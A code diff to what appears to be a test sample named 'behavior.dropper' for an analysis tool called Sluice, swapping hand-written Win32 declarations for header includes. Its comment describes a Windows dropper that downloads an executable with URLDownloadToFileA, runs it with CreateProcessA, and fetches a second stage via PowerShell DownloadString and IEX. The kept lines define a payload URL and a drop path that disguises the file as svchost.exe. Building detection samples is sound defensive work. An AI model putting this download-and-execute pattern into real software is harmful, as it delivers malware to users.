@@ -1,25 +1,14 @@
 // behavior.dropper on Windows: URLDownloadToFileA fetches an executable
 // into %TEMP% (download and save in one call) and CreateProcessA starts
 // it; a second stage is fetched with powershell's DownloadString and run
-// with IEX. The Win32 declarations are written out (windows.h is not
-// available here).
+// with IEX. It includes <windows.h> and <urlmon.h>; Sluice's bundled
+// declarations serve them when the Windows SDK is not installed.
+#include <windows.h>
+#include <urlmon.h>
+
 #include <cstdio>
 #include <cstdlib>
 
-extern "C" {
-typedef int BOOL;
-typedef long HRESULT;
-typedef unsigned long DWORD;
-typedef void *HANDLE;
-typedef struct _STARTUPINFOA { DWORD cb; char pad[100]; } STARTUPINFOA;
-typedef struct _PROCESS_INFORMATION { HANDLE hProcess, hThread; DWORD pid, tid; } PROCESS_INFORMATION;
-HRESULT URLDownloadToFileA(void *pCaller, const char *szURL, const char *szFileName, DWORD dwReserved, void *lpfnCB);
-BOOL CreateProcessA(const char *lpApplicationName, char *lpCommandLine, void *lpProcessAttributes,
-                    void *lpThreadAttributes, BOOL bInheritHandles, DWORD dwCreationFlags, void *lpEnvironment,
-                    const char *lpCurrentDirectory, STARTUPINFOA *lpStartupInfo, PROCESS_INFORMATION *lpProcessInformation);
-}
-
-#define CREATE_NO_WINDOW 0x08000000
 #define PAYLOAD_URL "http://203.0.113.80/files/svchost.exe"
 #define PAYLOAD_PATH "C:\\Users\\Public\\Libraries\\svchost.exe"
 
